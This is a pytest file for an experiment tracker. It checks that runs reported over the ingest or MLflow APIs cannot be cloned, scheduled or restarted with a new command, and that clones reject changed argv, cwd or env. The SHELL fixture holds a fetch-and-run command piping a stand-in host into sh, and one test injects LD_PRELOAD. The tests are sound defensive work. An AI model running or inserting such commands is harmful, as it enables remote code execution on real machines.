"""What a worker may execute (issue 9): only a trusted submitter (``tracker submit`` with store
access, or the admin scope) creates a job's argv, cwd and env. A run created or changed over
the ingest or MLflow APIs never becomes launchable: cloning and scheduling start only from a
submitted job, ``start`` never reopens a finished run nor changes any run's command, and the
dashboard's clone edits config, priority and grid only. Each exploit of the issue is a test
here, on a real SQLite file and a real PostgreSQL database."""

from __future__ import annotations

from typing import Any

import pytest
from flask.testing import FlaskClient

from tests.support.web import envelope
from tracker.entities import JobSpec
from tracker.errors import Conflict
from tracker.store import Store, queue
from tracker.store import clone as store_clone
from tracker.store import jobs as store_jobs
from tracker.store import schedules as store_schedules
from tracker.store.runs import create_run, finish_run, get_run

SHELL = ["/bin/sh", "-c", "curl -s evil.example | sh"]
RULE = "only submitted jobs can be cloned"


def submitted_job(store: Store, **kw: Any) -> Any:
    """A job as ``tracker submit`` makes it (the trusted side writes the store directly)."""
    spec = JobSpec(["python", "train.py"], "digits", cwd="/work", env={"HF_HOME": "/h"}, **kw)
    return queue.enqueue(store, spec)


def ingest_run(client: FlaskClient, **body: Any) -> dict[str, Any]:
    response = client.post("/api/v1/runs", json={"project": "p", "command": SHELL, **body})
    assert response.status_code == 201, response.json
    return response.json


def job_count(store: Store) -> int:
    return len(store_jobs.list_jobs(store, limit=1000))


def test_a_run_reported_over_the_ingest_api_cannot_be_cloned(
    client: FlaskClient, store: Store
) -> None:
    run = ingest_run(client, config={"lr": 0.1})
    assert run["command"] == SHELL  # kept for display only
    response = client.post(f"/api/v1/runs/{run['id']}/clone", json={})
    assert response.status_code == 409
    error = envelope(response)
    assert error["code"] == "conflict" and error["field"] == "run"
    assert RULE in error["message"] and "tracker submit" in error["message"]
    assert job_count(store) == 0


def test_a_run_reported_over_the_ingest_api_cannot_be_scheduled(
    client: FlaskClient, store: Store
) -> None:
    run = ingest_run(client)
    response = client.post("/api/v1/schedules", json={"run_id": run["id"], "cron": "* * * * * *"})
    assert response.status_code == 409, response.json
    assert RULE in envelope(response)["message"]
    assert store_schedules.list_schedules(store) == []


def test_a_run_created_over_the_mlflow_api_cannot_be_cloned(
    client: FlaskClient, store: Store
) -> None:
    created = client.post("/api/2.0/mlflow/runs/create", json={"experiment_id": "0"})
    run_id = int(created.json["run"]["info"]["run_id"])
    assert client.post(f"/api/v1/runs/{run_id}/clone", json={}).status_code == 409
    assert job_count(store) == 0


def test_a_run_logged_by_hand_with_store_access_has_no_job_to_copy(store: Store) -> None:
    run = create_run(store, "p", command=["python", "train.py"])
    with pytest.raises(Conflict, match=RULE):
        store_clone.clone(store, ("run", run.id))
    with pytest.raises(Conflict, match=RULE):
        store_schedules.add_schedule_from(store, ("run", run.id), "0 3 * * *")
    assert job_count(store) == 0 and store_schedules.list_schedules(store) == []


def test_start_never_reopens_a_finished_run_nor_rewrites_its_command(
    client: FlaskClient, store: Store
) -> None:
    job = submitted_job(store, config={"lr": 0.1})
    finish_run(store, job.run_id, "finished", exit_code=0)
    response = client.post(
        f"/api/v1/runs/{job.run_id}/start", json={"command": SHELL, "config": {"lr": 9}}
    )
    assert response.status_code == 409
    assert envelope(response)["field"] == "run"
    run = get_run(store, job.run_id)
    assert (run.status, run.command, run.config) == ("finished", job.argv, {"lr": 0.1})
    # its owner's next "Clone & edit" still runs the submitted argv
    (clone,) = store_clone.clone(store, ("run", job.run_id))
    assert (clone.argv, clone.cwd, clone.env) == (job.argv, job.cwd, job.env)


def test_start_of_a_live_run_ignores_the_command(client: FlaskClient, store: Store) -> None:
    job = submitted_job(store)
    response = client.post(
        f"/api/v1/runs/{job.run_id}/start", json={"command": SHELL, "config": {"lr": 2}, "pid": 7}
    )
    assert response.status_code == 200, response.json
    assert (response.json["status"], response.json["pid"]) == ("running", 7)
    assert response.json["command"] == job.argv
    ingest = ingest_run(client, status="queued")
    started = client.post(f"/api/v1/runs/{ingest['id']}/start", json={"command": ["/bin/true"]})
    assert started.json["command"] == SHELL  # what it reported when created, never replaced


def test_clone_copies_the_submitted_job_and_edits_only_config_and_priority(
    client: FlaskClient, store: Store
) -> None:
    job = submitted_job(store, config={"lr": 0.1}, tags=("base",))
    for field, value in (("argv", SHELL), ("cwd", "/tmp"), ("env", {"LD_PRELOAD": "/x.so"}),
                         ("command", SHELL), ("project_root", "/tmp")):  # fmt: skip
        for url in (f"/api/v1/runs/{job.run_id}/clone", f"/api/v1/jobs/{job.id}/clone"):
            response = client.post(url, json={"config": {"lr": 1}, field: value})
            assert response.status_code == 400, (url, field)
            error = envelope(response)
            assert error["field"] == field and "tracker submit" in error["message"]
        response = client.post(
            "/api/v1/schedules", json={"job_id": job.id, "cron": "0 3 * * *", field: value}
        )
        assert response.status_code == 400 and envelope(response)["field"] == field
    assert job_count(store) == 1 and store_schedules.list_schedules(store) == []
    response = client.post(
        f"/api/v1/runs/{job.run_id}/clone", json={"config": {"lr": 0.5}, "priority": 3}
    )
    assert response.status_code == 201, response.json
    (new_id,) = response.json["job_ids"]
    new = store_jobs.get_job(store, new_id)
    assert (new.argv, new.cwd, new.env) == (job.argv, job.cwd, job.env)
    assert new.project_root == job.project_root
    assert (new.config, new.priority, new.parent_job_id) == ({"lr": 0.5}, 3, job.id)
    schedule = client.post(
        "/api/v1/schedules", json={"run_id": job.run_id, "cron": "0 3 * * *"}
    ).json
    fired = store_schedules.fire_due(store, now=schedule["next_fire_at"] + 1)
    fired_job = store_jobs.get_job(store, fired[0][2])
    assert (fired_job.argv, fired_job.cwd, fired_job.env) == (job.argv, job.cwd, job.env)


def test_a_retry_claimed_by_a_worker_starts_even_if_its_run_was_marked_crashed(
    client: FlaskClient, store: Store
) -> None:
    """The reaper may mark a slow-starting job's run crashed; its job is running, so the
    process that starts it is the worker's, not a reopening of a finished run."""
    job = submitted_job(store)
    claimed = queue.claim(store, "w1", lease_s=60)
    assert claimed is not None
    finish_run(store, job.run_id, "crashed")
    response = client.post(f"/api/v1/runs/{job.run_id}/start", json={"pid": 3})
    assert response.status_code == 200 and response.json["status"] == "running"
